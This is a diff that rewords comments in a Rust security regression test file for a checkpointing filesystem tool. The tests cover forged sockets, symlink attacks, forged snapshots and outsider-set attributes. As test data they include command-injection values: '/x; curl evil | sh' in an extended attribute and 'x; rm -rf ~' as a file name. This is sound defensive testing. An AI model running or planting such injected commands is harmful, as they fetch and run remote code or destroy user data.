@@ -1,5 +1,5 @@
-//! What somebody else puts where we look: sockets, links to other trees, FUSE filesystems that call
-//! themselves ours. None of it is asked, believed, followed or waited for.
+//! Sockets, links to other trees and imitated FUSE mounts placed by another user where our programs
+//! search: none is queried, trusted, followed or waited for.
 
 use std::fs::{self, File, Permissions};
 use std::io::{BufRead, BufReader, Write};
@@ -17,20 +17,21 @@ use super::support::{get, put, sh};
 use crate::common::{Fs, Image, Io, Mount, MountOpts, Variant, run_limited, skip, tool};
 
 pub(super) const NOBODY: u32 = 65_534;
-/// Seconds that nothing here takes unless it waits for somebody.
+/// Time limit of a command, in seconds; only a wait for another process exceeds it.
 const SECONDS: u64 = 60;
 
-/// A server of another user's, which answers everything with nonsense; how often it was asked.
+/// A server of another user that replies with invalid answers, and the number of its requests.
 struct Forged(Arc<AtomicUsize>);
 
 impl Forged {
-    /// Listens in `store`, which that user must be able to write.
+    /// Listens in `store`, which that user must be able to write to.
     fn listen(store: &Path) -> Forged {
         let asked = Arc::new(AtomicUsize::new(0));
         let (counter, (ready, wait)) = (Arc::clone(&asked), mpsc::channel());
         let dir = File::open(store).expect("the store");
         std::thread::spawn(move || {
-            // These are of the thread alone: the kernel notes who calls listen(2).
+            // The credentials belong to this thread alone: the kernel records those of the caller
+            // of listen(2).
             let (uid, gid) = (Uid::from_raw(NOBODY), Gid::from_raw(NOBODY));
             rustix::thread::set_thread_res_gid(gid, gid, gid).expect("setresgid");
             rustix::thread::set_thread_res_uid(uid, uid, uid).expect("setresuid");
@@ -85,7 +86,7 @@ pub(super) fn nobody_s(path: impl AsRef<Path>) {
     chown(path, Some(NOBODY), Some(NOBODY)).expect("chown");
 }
 
-/// A verb of each kind: what asks, what changes, what copies, what runs something.
+/// Verbs of each kind: queries, changes, copies, and commands.
 const VERBS: [&[&str]; 14] = [
     &["status"],
     &["log"],
@@ -103,7 +104,7 @@ const VERBS: [&[&str]; 14] = [
     &["gc", "--dedup"],
 ];
 
-/// No verb asks the server above, makes something, or shows what the server says.
+/// Asserts that no verb queries the server, creates a file, or shows the server's text.
 fn all_fail(what: &str, image: &Image, forged: &Forged) {
     let (above, copy) = (image.dir("pub"), image.path().join("copy"));
     let below = image.dir("pub/victim");
@@ -149,9 +150,9 @@ fn all_fail(what: &str, image: &Image, forged: &Forged) {
     );
 }
 
-/// A forged `.ckptfs` in a directory above took over root's commands: the client followed links,
-/// and believed whoever answered. `export` and `fork` made a set-uid root file with that user's
-/// bytes, `run --at latest make` ran that user's Makefile.
+/// Failed before: a forged `.ckptfs` in a parent directory took over root's commands, because the
+/// client followed links and trusted any server. `export` and `fork` made a set-uid root file with
+/// that user's content, and `run --at latest make` ran that user's Makefile.
 #[test]
 fn a_server_of_somebody_else_above_is_asked_nothing() {
     let image = Image::of(Fs::Ext4);
@@ -170,11 +171,11 @@ fn a_server_of_somebody_else_above_is_asked_nothing() {
         "{}",
         said(&output)
     );
-    // A directory of ours that others can write is as good as theirs.
+    // Our directory is untrusted if others can write to it.
     chown(&store, Some(0), Some(0)).expect("chown");
     mode(&store, 0o777);
     try_all("our directory, where all can write");
-    // What was made there while they could.
+    // The socket remains from the time at which they could write.
     mode(&store, 0o755);
     try_all("their socket in our directory");
     let elsewhere = image.path().join("elsewhere");
@@ -184,8 +185,8 @@ fn a_server_of_somebody_else_above_is_asked_nothing() {
     try_all("a link");
 }
 
-/// A link to another tree's store made `restore latest` restore that one, from a directory that had
-/// nothing to do with it.
+/// Failed before: with a link to another tree's store, `restore latest` restored that tree from an
+/// unrelated directory.
 #[test]
 fn a_link_to_another_tree_s_store_leads_to_no_tree() {
     let image = Image::of(Fs::Ext4);
@@ -222,7 +223,7 @@ fn a_link_to_another_tree_s_store_leads_to_no_tree() {
     }
     assert_eq!(get(point.join("f")), "new", "another tree was restored");
     assert_eq!(mount.log_json().as_array().map(Vec::len), Some(1));
-    // Both ways in are what they were.
+    // Both paths of the tree still work.
     for dir in [&tree, &point] {
         assert!(ckptfs(dir, &["status"]).status.success());
         assert_eq!(said(&ckptfs(dir, &["show", "latest:f"])), "old");
@@ -243,8 +244,8 @@ pub(super) fn on_reflink() -> Option<Image> {
     }
 }
 
-/// `import` of what looked like snapper's snapshots followed `N/snapshot` where that was a link:
-/// root brought in a directory that was closed to whoever made it.
+/// Failed before: `import` of a forged snapper series followed `N/snapshot` where it was a link, so
+/// root imported a directory that its creator could not read.
 #[test]
 fn a_link_in_a_series_of_snapshots_leads_nowhere() {
     let image = Image::of(Fs::Ext4);
@@ -293,8 +294,8 @@ fn a_link_in_a_series_of_snapshots_leads_nowhere() {
     mount.umount();
 }
 
-/// What a tree of somebody else says of the contents of its files was believed:
-/// `import --hash --with THEIRS` gave a file their bytes instead of its own.
+/// Failed before: the content hashes in another user's tree were trusted, and `import --hash --with
+/// THEIRS` wrote that tree's bytes to a file.
 #[test]
 fn what_somebody_else_s_tree_says_of_its_contents_is_not_believed() {
     use ckptfs::internals::transfer::import::keep::{self, Kept};
@@ -314,7 +315,7 @@ fn what_somebody_else_s_tree_says_of_its_contents_is_not_believed() {
         assert!(output.status.success(), "{}", said(&output));
     };
     bring("theirs", &[]);
-    // The file is another now, and the record still says what it was.
+    // The file has changed, and the record still describes the old content.
     let theirs = image.path().join("theirs");
     put(theirs.join("build.sh"), "evil evil evil evil\n");
     sh(&theirs, &format!("chown -R {NOBODY}:{NOBODY} ."));
@@ -335,7 +336,7 @@ fn what_somebody_else_s_tree_says_of_its_contents_is_not_believed() {
         "good good good good\n",
         "their bytes came in under our name"
     );
-    // A link to a record that is ours is theirs too.
+    // Their link to our record is as untrusted as their record.
     sh(
         &theirs,
         "mv .ckptfs ../aside; ln -s ../aside .ckptfs; chown -R 0:0 ../aside",
@@ -348,7 +349,7 @@ fn what_somebody_else_s_tree_says_of_its_contents_is_not_believed() {
     );
 }
 
-/// Our attributes can be neither set nor removed nor seen.
+/// Asserts that our attributes can be neither set nor removed nor read.
 fn marks_are_refused(place: &Path, error: &str) {
     for name in [
         "user.ckptfs.import",
@@ -387,9 +388,9 @@ fn marks_are_refused(place: &Path, error: &str) {
     );
 }
 
-/// `setfattr -n user.ckptfs.import -v /x ROOT`, by anybody who may write to the root, was the mark
-/// of an import that had not ended: nobody could mount the tree any more, and the hint had the
-/// value in a command to be pasted.
+/// Failed before: `setfattr -n user.ckptfs.import -v /x ROOT`, by a user who may write to the root
+/// directory, set the mark of an unfinished import. The tree could not be mounted, and the hint
+/// contained the value in a command to paste.
 #[test]
 fn our_marks_are_not_for_others_to_set() {
     let image = Image::of(Fs::Ext4);
@@ -397,7 +398,7 @@ fn our_marks_are_not_for_others_to_set() {
     put(project.join("f"), "1");
     put(project.join("odd"), "1");
     fs::create_dir(project.join("d")).expect("mkdir");
-    // Set before there was a mount, and by an older ckptfs.
+    // Set before the first mount, and by an older ckptfs.
     sh(
         &project,
         "setfattr -n user.ckptfs.export -v forged odd; setfattr -n user.mine -v 1 odd",
@@ -426,8 +427,7 @@ fn our_marks_are_not_for_others_to_set() {
         "# file: odd\nuser.mine=\"1\""
     );
     mount.umount();
-    // Whoever may write to the directory while it is not mounted may set it there: it means
-    // nothing.
+    // A user who may write to the directory while it is unmounted may set it there, without effect.
     sh(
         &project,
         "setfattr -n user.ckptfs.import -v '/x; curl evil | sh' .",
@@ -436,7 +436,7 @@ fn our_marks_are_not_for_others_to_set() {
     assert_eq!(get(project.join("f")), "1");
     mount.umount();
     drop(mount);
-    // Where there is no history yet it may be of an import by an older ckptfs, and is told.
+    // Without a history, the mark may come from an import by an older ckptfs, and is reported.
     let new = image.dir("new");
     sh(
         &new,
@@ -451,8 +451,8 @@ fn our_marks_are_not_for_others_to_set() {
     );
 }
 
-/// Names stood in hints as they were: a tag, a path or a mount called `x; rm -rf ~` made a command
-/// of its own out of what a person was told to run.
+/// Failed before: hints contained names unquoted, so a tag, path or mount named `x; rm -rf ~` added
+/// a command to the one to paste.
 #[test]
 fn a_command_that_is_shown_can_be_pasted() {
     let image = Image::of(Fs::Ext4);
